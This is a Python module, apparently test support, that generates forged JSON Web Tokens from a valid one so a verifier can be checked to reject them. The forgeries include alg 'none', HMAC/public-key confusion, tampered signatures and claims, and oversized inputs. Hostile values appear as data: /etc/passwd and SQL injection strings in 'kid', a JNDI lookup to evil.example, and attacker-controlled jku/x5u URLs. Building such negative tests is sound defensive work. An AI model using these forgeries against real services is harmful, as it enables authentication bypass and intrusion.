"""Forged tokens: what attackers are known to try, made from a good token and, where only a thief of the key could, with the real key."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cached_property
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

Forgery = tuple[str, str]
HMACS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
ODD = ("", "1", "now", 1.5, -1, 10**30, True, None, [], [1], {}, {"a": 1})
NOT_JSON_NUMBERS = ("NaN", "Infinity", "-Infinity", "1e400", "1e3", "1.0", "0x10", "١", "9" * 5000)


def b64(data: bytes | str) -> str:
    """base64url without padding (RFC 7515 appendix C)."""
    return base64.urlsafe_b64encode(data.encode() if isinstance(data, str) else data).rstrip(b"=").decode()


def unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def written(value: Any) -> str:
    return value if isinstance(value, str) else json.dumps(value, separators=(",", ":"))


@dataclass(frozen=True)
class Model:
    """A good token taken apart, with the key that signed it."""

    text: str
    key: Any

    @property
    def parts(self) -> list[str]:
        return self.text.split(".")

    @property
    def header(self) -> dict[str, Any]:
        return json.loads(unb64(self.parts[0]))

    @property
    def payload(self) -> dict[str, Any]:
        return json.loads(unb64(self.parts[1]))

    def signed(self, header: Any = None, payload: Any = None, key: Any = None) -> str:
        """Signed as the service signs; header and payload are objects or JSON texts, good ones unless given."""
        head = b64(written(self.header if header is None else header))
        body = b64(written(self.payload if payload is None else payload))
        return f"{head}.{body}.{b64(self.signature(f'{head}.{body}'.encode(), key))}"

    def signature(self, message: bytes, key: Any = None) -> bytes:
        algorithm = jwt.get_algorithm_by_name(self.key.algorithm)
        made: bytes = algorithm.sign(message, algorithm.prepare_key(key or self.key.private))
        return made

    def with_header(self, **members: Any) -> str:
        return self.signed(header={**self.header, **members})

    def with_claims(self, **claims: Any) -> str:
        return self.signed(payload={**self.payload, **claims})

    def without(self, *claims: str) -> str:
        return self.signed(
            payload={name: value for name, value in self.payload.items() if name not in claims}
        )

    def raw_claim(self, name: str, text: str) -> str:
        """A claim whose value is written as no JSON library would write it."""
        return self.signed(payload=json.dumps({**self.payload, name: "@"}).replace('"@"', text))

    @cached_property
    def stranger(self) -> Any:
        """A key of the same kind that is not ours."""
        makers: dict[str, Any] = {
            "EdDSA": ed25519.Ed25519PrivateKey.generate,
            "ES256": lambda: ec.generate_private_key(ec.SECP256R1()),
            "RS256": lambda: rsa.generate_private_key(public_exponent=65537, key_size=2048),
            "HS256": lambda: b"a secret of the attacker's own choice",
        }
        return makers[self.key.algorithm]()


def forgeries(model: Model, *, about_keys: bool = False) -> list[Forgery]:
    """(name, token) of every forgery, none of which may be taken for a good one; or only those that depend on the kind of key."""
    makers = [_algorithms, _key_confusion, _kids, _hostile_headers, _signatures, _edited]
    if not about_keys:
        makers += [_extensions, _moments, _claims, _contents, _duplicates, _spellings, _monsters, _types]
    found = [(f"{make.__name__.strip('_')}: {name}", token) for make in makers for name, token in make(model)]
    return [(name, token) for name, token in found if token != model.text]


def _algorithms(model: Model) -> Iterator[Forgery]:
    _, body, signature = model.parts
    for value in (
        "none",
        "None",
        "NONE",
        "nOnE",
        "",
        None,
        0,
        [],
        "HS256",
        "HS512",
        "ES512",
        "PS256",
        "eddsa",
        "RS1",
    ):
        for end in ("", signature, b64(b"x" * 64)):
            yield f"alg {value!r}", f"{b64(written({**model.header, 'alg': value}))}.{body}.{end}"
    less = {name: value for name, value in model.header.items() if name != "alg"}
    yield "alg missing", model.signed(header=less)
    for other in {"EdDSA", "ES256", "RS256", "HS256", "ES384"} - {model.key.algorithm}:
        yield f"alg {other} with our key", model.with_header(alg=other)


def public_encodings(model: Model) -> Iterator[tuple[str, bytes]]:
    """The public key as an attacker could write it down."""
    if model.key.jwk is None:
        return
    spki = serialization.PublicFormat.SubjectPublicKeyInfo
    pem: bytes = model.key.public.public_bytes(serialization.Encoding.PEM, spki)
    yield "PEM", pem
    yield "PEM without the last line feed", pem.rstrip()
    yield "PEM with CRLF", pem.replace(b"\n", b"\r\n")
    yield "PEM with BOM", b"\xef\xbb\xbf" + pem
    yield "PEM with spaces", b"  " + pem + b"\n\n"
    yield "DER", model.key.public.public_bytes(serialization.Encoding.DER, spki)
    yield "JWK", written(model.key.jwk).encode()
    yield "JWKS", written({"keys": [model.key.jwk]}).encode()
    for member in ("x", "n", "y", "e"):
        if member in model.key.jwk:
            yield f"member {member}", unb64(model.key.jwk[member])
            yield f"member {member} as text", model.key.jwk[member].encode()


def _key_confusion(model: Model) -> Iterator[Forgery]:
    known = [
        *public_encodings(model),
        ("nothing", b""),
        ("secret", b"secret"),
        ("kid", model.key.kid.encode()),
        ("null", b"null"),
    ]
    for name, digest in HMACS.items():
        start = f"{b64(written({**model.header, 'alg': name}))}.{model.parts[1]}"
        for encoding, secret in known:
            yield (
                f"{name} with {encoding}",
                f"{start}.{b64(hmac.new(secret, start.encode(), digest).digest())}",
            )


def _kids(model: Model) -> Iterator[Forgery]:
    kid = model.key.kid
    for value in (
        "../../../../dev/null", "/etc/passwd", "' OR 1=1 --", "x' UNION SELECT 'k",
        "https://evil.example/k", "\0", kid + "\0", "k" * 10_000,
        [kid], {"kid": kid}, None, 0, True, "", kid[:-1], kid.swapcase(), kid + " ", kid + "=", "${jndi:ldap://evil.example/a}",
    ):  # fmt: skip
        yield f"kid {str(value)[:20]!r}", model.with_header(kid=value)
    yield (
        "kid missing",
        model.signed(header={name: value for name, value in model.header.items() if name != "kid"}),
    )


def _hostile_headers(model: Model) -> Iterator[Forgery]:
    stranger = model.stranger
    evil = {
        "jku": "https://evil.example/jwks.json", "x5u": "https://evil.example/cert.pem", "jwk": model.key.jwk or {"kty": "oct", "k": "AA"},
        "x5c": ["MIIB"], "x5t": "AAAA", "x5t#S256": "AAAA", "cty": "JWT", "url": "http://127.0.0.1:9/", "nonce": "x",
    }  # fmt: skip
    for name, value in evil.items():
        yield name, model.with_header(**{name: value})
        yield f"{name}, stranger's key", model.signed(header={**model.header, name: value}, key=stranger)
        yield f"{name} alone", model.signed(header={"alg": model.key.algorithm, name: value}, key=stranger)


def _extensions(model: Model) -> Iterator[Forgery]:
    for value in ([], ["exp"], ["b64"], ["x"], "exp", None, [1]):
        yield f"crit {value!r}", model.with_header(crit=value)
    yield "b64 false", model.with_header(b64=False)
    yield "b64 false, critical", model.with_header(b64=False, crit=["b64"])
    yield "zip", model.with_header(zip="DEF")
    yield "JWE", ".".join([b64('{"alg":"dir","enc":"A256GCM"}'), "", *model.parts])
    yield "nested", model.signed(header={**model.header, "cty": "JWT"}, payload=written(f'"{model.text}"'))
    yield (
        "JSON serialization",
        written({"protected": model.parts[0], "payload": model.parts[1], "signature": model.parts[2]}),
    )
    for value in ("[]", "null", "1", '"text"', "", "{", "{}"):
        yield f"payload {value!r}", model.signed(payload=value)
        yield f"header {value!r}", model.signed(header=value)


def _signatures(model: Model) -> Iterator[Forgery]:
    head, body, signature = model.parts
    raw = unb64(signature)
    yield "stripped", f"{head}.{body}."
    yield "two parts", f"{head}.{body}"
    yield "of zeros", f"{head}.{body}.{b64(bytes(len(raw)))}"
    yield "twice", f"{head}.{body}.{signature}.{signature}"
    yield "doubled", f"{head}.{body}.{b64(raw + raw)}"
    yield (
        "of another token",
        f"{head}.{body}.{model.with_claims(jti='0198c0de-7a3e-7d52-9c41-2b8f6a1d3e57').split('.')[2]}",
    )
    yield "of a stranger", model.signed(key=model.stranger)
    for length in range(1, 33):
        yield f"cut by {length}", f"{head}.{body}.{b64(raw[:-length])}"
    for position in range(min(len(raw), 64)):
        flipped = bytes([*raw[:position], raw[position] ^ (1 << position % 8), *raw[position + 1 :]])
        yield f"bit of byte {position}", f"{head}.{body}.{b64(flipped)}"


def _edited(model: Model) -> Iterator[Forgery]:
    head, _, signature = model.parts
    for name, value in model.payload.items():
        for other in (f"{value}x", "admin", ["admin"], 1 << 39, None):
            yield f"{name} edited", f"{head}.{b64(written({**model.payload, name: other}))}.{signature}"


def _moments(model: Model) -> Iterator[Forgery]:
    """Signed with the real key."""
    for name in ("exp", "iat", "nbf", "auth_time", *({"av", "gen"} & model.payload.keys())):
        for value in ODD:
            yield f"{name} {value!r}", model.with_claims(**{name: value})
        for text in NOT_JSON_NUMBERS:
            yield f"{name} {text[:9]}", model.raw_claim(name, text)
    yield "nbf later", model.with_claims(nbf=model.payload["exp"] - 1)
    yield "iat later", model.with_claims(iat=model.payload["exp"] - 1)


def _claims(model: Model) -> Iterator[Forgery]:
    """Signed with the real key: each claim missing, odd, or somebody else's."""
    for name in model.payload:
        yield f"{name} missing", model.without(name)
    for name in ("iss", "aud", "sub", "client_id", "jti", "sid", "type"):
        for value in ("", None, 0, True, [], {}, [model.payload[name]]):
            yield f"{name} {value!r}", model.with_claims(**{name: value})
    for name in ("sub", "jti", "sid"):
        for value in (
            "None",
            "1",
            "x" * 36,
            "../..",
            "' OR 1=1 --",
            model.payload[name].upper(),
            model.payload[name] + "\0",
        ):
            yield f"{name} {value!r}", model.with_claims(**{name: value})


def _contents(model: Model) -> Iterator[Forgery]:
    """Signed with the real key: well-formed, but not what a token of ours says."""
    for value in ("https://other.example", "rbac-ap", "RBAC-API", "*"):
        yield f"aud {value}", model.with_claims(aud=value)
        yield f"iss {value}", model.with_claims(iss=value)
    for value in ("Access", "REFRESH", "reset", "mfa", "id", "access ", "refresh\0"):
        yield f"type {value!r}", model.with_claims(type=value)
    for name in ("fresh", "csrf", "admin", "scope", "username", "email"):
        yield f"{name} added", model.with_claims(**{name: True})
    for value in ("admin", {"admin": True}, [1], [None], [["admin"]]):
        yield f"roles {value!r}", model.with_claims(roles=value)


def _duplicates(model: Model) -> Iterator[Forgery]:
    for name, value in model.payload.items():
        yield (
            f"{name} twice",
            model.signed(payload=written(model.payload)[:-1] + f',"{name}":{written_value(value)}}}'),
        )
    for name, value in model.header.items():
        yield (
            f"{name} twice in the header",
            model.signed(header=written(model.header)[:-1] + f',"{name}":"{value}"}}'),
        )


def written_value(value: Any) -> str:
    return json.dumps(value)


def _spellings(model: Model) -> Iterator[Forgery]:
    head, body, signature = model.parts
    for count in (1, 2, 3, 4):
        yield f"{count} = at the end", model.text + "=" * count
        yield f"{count} = after the header", f"{head}{'=' * count}.{body}.{signature}"
        yield f"{count} = after the payload", f"{head}.{body}{'=' * count}.{signature}"
    for mark in (" ", "\t", "\r", "\n", "%20", "+", "/", "\0", "\u00a0", "é", ",", ";", "\\"):
        for place in (
            f"{head}{mark}.{body}.{signature}",
            f"{head}.{body}.{signature}{mark}x",
            f"{head}.{body}.{mark}{signature}",
        ):
            yield f"{mark!r} inside", place
    yield "quoted", f'"{model.text}"'
    yield "Bearer twice", f"Bearer {model.text}"
    for position, part in enumerate(model.parts):
        other = _second_spelling(part)
        if other:
            yield (
                f"last character of part {position}",
                ".".join(other if i == position else p for i, p in enumerate(model.parts)),
            )


def _second_spelling(part: str) -> str | None:
    """The same bytes with other unused bits in the last character; None if there are none unused."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    others = (part[:-1] + letter for letter in alphabet if letter != part[-1])
    return next((other for other in others if unb64(other) == unb64(part)), None) if len(part) % 4 else None


def _monsters(model: Model) -> Iterator[Forgery]:
    yield "1 MB", "A" * 1_000_000
    yield "1 MB of payload", model.with_claims(client_id="x" * 1_000_000)
    yield "a million dots", "." * 1_000_000
    yield "deep header", model.signed(header='{"alg":' + "[" * 100_000 + "]" * 100_000 + "}")
    yield "deep header within the limit", model.signed(header='{"alg":' + "[" * 5000 + "]" * 5000 + "}")
    yield "deep payload", model.signed(payload='{"roles":' + "[" * 4000 + "]" * 4000 + "}")
    yield "not ASCII", "\u00e9" * 300
    yield "a longer token than any", model.text + "A" * 16_000
    yield (
        "UTF-16",
        model.signed(payload=written(model.payload)).replace(
            model.parts[1], b64(written(model.payload).encode("utf-16"))
        ),
    )
    yield "BOM", model.signed(payload="\ufeff" + written(model.payload))
    yield "surrogate", model.raw_claim("client_id", '"\\ud800"')
    for text in (".", "..", "...", "null", "undefined", "a.b.c", "Bearer", "{}", "0"):
        yield f"just {text!r}", text


def _types(model: Model) -> Iterator[Forgery]:
    """The header's ``typ``, signed with the real key."""
    mine = model.header["typ"]
    other = {"at+jwt": "rt+jwt", "rt+jwt": "at+jwt"}[mine]
    for value in (
        "JWT",
        "jwt",
        other,
        f"application/{other}",
        f"text/{mine}",
        f"{mine} ",
        f"{mine};x=1",
        "",
        None,
        [mine],
        1,
        "at-jwt",
    ):
        yield f"typ {value!r}", model.with_header(typ=value)
    yield (
        "typ missing",
        model.signed(header={name: value for name, value in model.header.items() if name != "typ"}),
    )
    yield "of the other kind", model.with_claims(type={"at+jwt": "refresh", "rt+jwt": "access"}[mine])
